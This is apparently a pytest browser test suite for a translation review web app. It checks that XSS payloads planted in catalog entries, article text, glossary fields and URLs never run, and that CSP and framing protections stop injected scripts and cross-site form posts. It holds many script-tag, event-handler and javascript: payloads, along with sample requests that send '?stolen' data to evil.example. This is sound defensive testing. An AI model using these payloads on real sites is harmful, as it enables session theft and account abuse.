"""A catalog that carries scripts in every field runs none of them, in a real browser."""

import html
import json
import webbrowser
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from deskroom import Deskroom
from judges.browser import Page
from judges.host import serve
from visiting import PASSWORD, reads, team_file

from i18n.model import State
from workflow.desk import serving
from workflow.desk.door.door import Door
from workflow.desk.door.team import Team

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("desk")]

SLUG = "<img src=x onerror=ran(0)>'\"{{7*7}}"
ARTICLE = """\
# Laboratory <script>ran(1)</script> opens

The university"><img src=x onerror="ran(2)"> opened `<script>ran(3)</script>` in Almaty.

Read [the news](javascript:ran(4)) and {{ 7*7 }} ${7*7} <%= 7*7 %> it.

> <svg onload="ran(5)"> "We waited" ' onmouseover='ran(6)' nine years </textarea><script>ran(7)</script>
"""
CATALOG = """\
msgid ""
msgstr ""
"Project-Id-Version: <script>ran(10)</script>\\n"
"PO-Revision-Date: 2026-11-24 10:00+0000\\n"
"Last-Translator: <img src=x onerror=ran(11)>\\n"
"Language: ru\\n"
"Content-Type: text/plain; charset=UTF-8\\n"
"X-Signoff: <script>ran(12)</script>; 2026-11-24; 0123456789ab\\n"
"X-Source-File: \\"><script>ran(13)</script>\\n"
"""
EVIL = '"><script>ran({0})</script><img src=x onerror="ran({0})"> <svg/onload=ran({0})> </textarea>'
INJECTED = {
    "an inline script": "add('script', e => e.textContent = 'ran(90)')",
    "an event handler": "add('img', e => { e.setAttribute('onerror', 'ran(91)'); e.src = '/x' })",
    "markup with a handler": "document.body.insertAdjacentHTML('beforeend', '<svg onload=ran(92)></svg>')",
    "a script of others": "add('script', e => e.src = 'https://evil.example/x.js')",
    "a script in an address": "add('script', e => e.src = 'data:text/javascript,ran(93)')",
    "a frame of others": "add('iframe', e => e.src = 'https://evil.example/')",
    "a style": "add('style', e => e.textContent = 'body { display: none }')",
    "an object": "add('object', e => e.data = '/x')",
    "a picture of others": "add('img', e => e.src = 'https://evil.example/x.png?stolen')",
    "a font of others": "document.fonts.add(new FontFace('x', 'url(https://evil.example/x)')) && document.fonts.load('1em x').catch(() => {})",
    "a request to others": "fetch('https://evil.example/?stolen').catch(() => {})",
    "text as a program": "setTimeout('ran(95)', 0)",
    "a base of others": "add('base', e => e.href = 'https://evil.example/')",
    "a form to others": "add('form', e => { e.action = 'https://evil.example/' }, e => e.submit())",
    "a link that is a script": "add('a', e => { e.href = 'javascript:ran(96)' }, e => e.click())",
}
"""What somebody would put into a page if the desk ever forgot to escape."""


WATCH = """
window.stopped = [];
window.ran = number => { window.hasRun = number };
document.addEventListener("securitypolicyviolation", event => stopped.push(event));
window.add = (name, set, act) => {
  const made = document.createElement(name);
  set(made);
  document.body.append(made);
  act?.(made);
};
null"""
"""Notes what runs and what is stopped, and adds an element."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deskroom]:
    """A desk with scripts in the source, its translations, comments, marks, headers and names."""
    room = Deskroom(
        tmp_path_factory.mktemp("hostile"),
        articles={f"{SLUG}.md": ARTICLE},
        drafts={},
        glossary="term,part of speech,note,ru\nAlmaty,<script>ran(20)</script>,"
        '<img src=x onerror=ran(21)>,"<script>ran(22)</script>"\n',
    )
    file = f"locales/ru/LC_MESSAGES/{SLUG}.po"
    _, *entries = room.read(file).rstrip("\n").split("\n\n")
    room.write(file, CATALOG + "\n" + "\n\n".join(map(poisoned, entries)) + "\n")
    with room:
        yield room


def poisoned(entry: str) -> str:
    """An entry with something hostile in each field that people and programs write to."""
    comments = [
        f"# {EVIL.format(30)}",
        f"# todo: {EVIL.format(31)}: {EVIL.format(32)}",
        f"# qa-ok: numbers 0123456789ab {EVIL.format(33)}",
        f"# mt: {EVIL.format(34)} 2026-11-24 0123456789ab",
        f"# reviewed: {EVIL.format(35)} 2026-11-24 0123456789ab",
        f"#. {EVIL.format(36)}",
        "#, fuzzy",
        f"#| msgid {json.dumps(EVIL.format(37))}",
    ]
    lines = [line for line in entry.split("\n") if not line.startswith("#,")]
    given = [line for line in lines if line.startswith("#")]
    rest = [line for line in lines if not line.startswith("#")]
    target = json.dumps(EVIL.format(38))
    rest = [f"msgstr {target}" if line.startswith('msgstr ""') else line for line in rest]
    order = sorted([*comments, *given], key=lambda line: "#.:,|".find(line[1:2].strip() or "#"))
    return "\n".join([*order, *rest])


def enter(page: Page, room: Deskroom) -> None:
    """Come in, by the first address."""
    page.goto(f"{room.url}/?t={room.desk.door.token}")


def screens(room: Deskroom) -> list[str]:
    """All that can be looked at of the hostile article."""
    units = room.catalog(SLUG, "ru").units
    places = {"lang": "ru", "slug": quote(SLUG), "uid": units[1].uid, "name": "x"}
    plain = [one for one in reads(**places) if one not in {"/events", "/healthz"}]
    review = f"/review/ru/{quote(SLUG)}"
    opened = [f"{review}?u={unit.uid}" for unit in units]
    typed = quote(EVIL.format(60))
    return [
        *plain, *opened, f"{review}?q={typed}&show={typed}&u={typed}",
        f"/memory?lang=ru&q={typed}", "/glossary?lang=ru&q=Almaty", f"/glossary?lang=ru&q={typed}",
        f"/{typed}", f"/static/{typed}", f"/review/{typed}/x",
    ]  # fmt: skip


def test_nothing_of_a_catalog_runs_on_any_screen(page: Page, hostile: Deskroom) -> None:
    enter(page, hostile)
    seen = 0

    for address in screens(hostile):
        page.goto(hostile.url + address)
        source = page.evaluate("document.documentElement.outerHTML")
        seen += "ran(38)" in source

        assert not [one for one in page.errors if "Security Policy" in one or "sandbox" in one]
        assert page.evaluate("typeof ran") == "undefined", address
        assert page.evaluate(
            "[...document.querySelectorAll('script:not([src])')].every(one => one.type.includes('json'))"
        ), address
        assert not page.evaluate(
            "[...document.querySelectorAll('*')].flatMap(one => [...one.attributes])"
            ".filter(one => /^on|^hx-on/.test(one.name) || /^javascript:/i.test(one.value))"
            ".map(one => one.name + '=' + one.value)"
        ), address
    assert seen >= len(hostile.catalog(SLUG, "ru").units)


def test_what_was_hostile_is_read_as_it_was_written(page: Page, hostile: Deskroom) -> None:
    enter(page, hostile)
    unit = hostile.catalog(SLUG, "ru").units[1]
    page.goto(f"{hostile.url}/review/ru/{quote(SLUG)}?u={unit.uid}")

    assert page.evaluate("document.querySelector('textarea[name=target]').value") == unit.target
    assert "<script>ran(30)</script>" in page.text("body")
    assert "{{ 7*7 }}" in page.text("body")
    assert page.evaluate("document.title").startswith(SLUG) or SLUG in page.text("body")


@pytest.mark.parametrize("what", INJECTED)
def test_a_script_that_gets_into_a_page_is_stopped(
    page: Page, hostile: Deskroom, what: str
) -> None:
    enter(page, hostile)
    page.goto(f"{hostile.url}/review/ru/{quote(SLUG)}")
    page.evaluate(WATCH)

    page.evaluate(f"{{{INJECTED[what]}}}; null")
    page.wait("stopped.length")

    assert page.evaluate("typeof hasRun") == "undefined"
    assert page.evaluate("location.pathname").startswith("/review/ru/")


def test_a_script_in_a_frame_of_its_own_is_stopped(page: Page, hostile: Deskroom) -> None:
    enter(page, hostile)
    page.evaluate(WATCH)

    page.evaluate(
        "new Promise(done => add('iframe', e => { e.onload = done;"
        " e.srcdoc = '<script>parent.ran(94)<' + '/script>' })).then(() => 1)"
    )

    assert page.evaluate("typeof hasRun") == "undefined"
    assert [one for one in page.errors if "script-src 'self'" in one]


def test_a_page_of_another_server_on_this_machine_does_nothing_in_a_reviewers_name(
    page: Page, tmp_path: Path
) -> None:
    with Deskroom(tmp_path / "news") as room, serve(tmp_path / "evil") as evil:
        unit = room.unit("ru", "We waited")
        fields = {**room.seen(unit), "action": "approve"}
        inputs = "".join(
            f'<input name="{name}" value="{html.escape(value)}">' for name, value in fields.items()
        )
        (tmp_path / "evil").mkdir()
        (tmp_path / "evil/index.html").write_text(
            f'<form method="post" action="{room.url}/row/ru/{unit.uid}/news">{inputs}</form>'
            f'<iframe src="{room.url}/review/ru/news"></iframe>'
        )
        enter(page, room)
        page.goto(evil + "/")

        assert any("frame-ancestors" in said or "X-Frame-Options" in said for said in page.errors)
        answer = page.evaluate(
            f"fetch('{room.url}/review/ru/news', {{credentials: 'include'}})"
            ".then(() => 'read', () => 'refused')"
        )
        assert answer == "refused"
        page.evaluate("document.forms[0].submit()")
        page.wait("document.title.startsWith('Another page sent this')")

        assert room.unit("ru", "We waited").state is State.DRAFT


def test_a_form_without_scripts_is_known_as_ours(page: Page, tmp_path: Path) -> None:
    with Deskroom(tmp_path) as room:
        enter(page, room)
        unit = room.unit("ru", "We waited")
        page.emulate(scripts=False)
        page.goto(f"{room.url}/review/ru/news?u={unit.uid}")
        page.click("button[name=action][value=approve]")
        page.emulate()
        page.wait("document.readyState === 'complete' && location.search.includes('did=')")

        assert room.unit("ru", "We waited").state is State.APPROVED


def test_a_person_signs_in_and_out_without_scripts(page: Page, tmp_path: Path) -> None:
    door = Door(team=Team(team_file(tmp_path / "users.toml")))
    with Deskroom(tmp_path / "news", door=door) as room:
        page.emulate(scripts=False)
        page.goto(f"{room.url}/review/ru/news")
        page.emulate()
        assert page.text("h1") == "Sign in"
        assert page.evaluate("document.activeElement.name") == "name"

        page.type("[name=name]", "An Editor")
        page.type("[name=password]", PASSWORD)
        page.press("Enter")
        page.wait("location.pathname === '/review/ru/news' && document.readyState === 'complete'")
        assert "An Editor" in page.text(".who")

        page.click("form[action='/logout'] button")
        page.wait("location.pathname === '/login' && document.readyState === 'complete'")
        page.goto(f"{room.url}/")
        assert page.text("h1") == "Sign in"


def test_a_link_from_elsewhere_opens_the_desk_for_who_is_in(page: Page, tmp_path: Path) -> None:
    with Deskroom(tmp_path / "news") as room:
        mail = tmp_path / "mail.html"
        mail.write_text(f'<a href="{room.url}/review/ru/news">Look at these rows, please.</a>')
        enter(page, room)

        page.goto(mail.as_uri())
        page.click("a")
        page.wait("location.pathname === '/review/ru/news'")

        page.wait("document.querySelector('article.row')")


def test_the_file_that_the_browser_is_given_leads_in(
    page: Page, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(webbrowser, "open", lambda uri: True)
    file = tmp_path / "desk.html"
    with (
        Deskroom(tmp_path / "news") as room,
        serving.opened(room.url + room.desk.door.entrance, file),
    ):
        page.goto(file.as_uri())
        page.wait("location.pathname === '/' && document.querySelector('main')")

        assert page.evaluate("location.href") == f"{room.url}/"
        assert "news" in page.text("main")
    assert not file.exists()
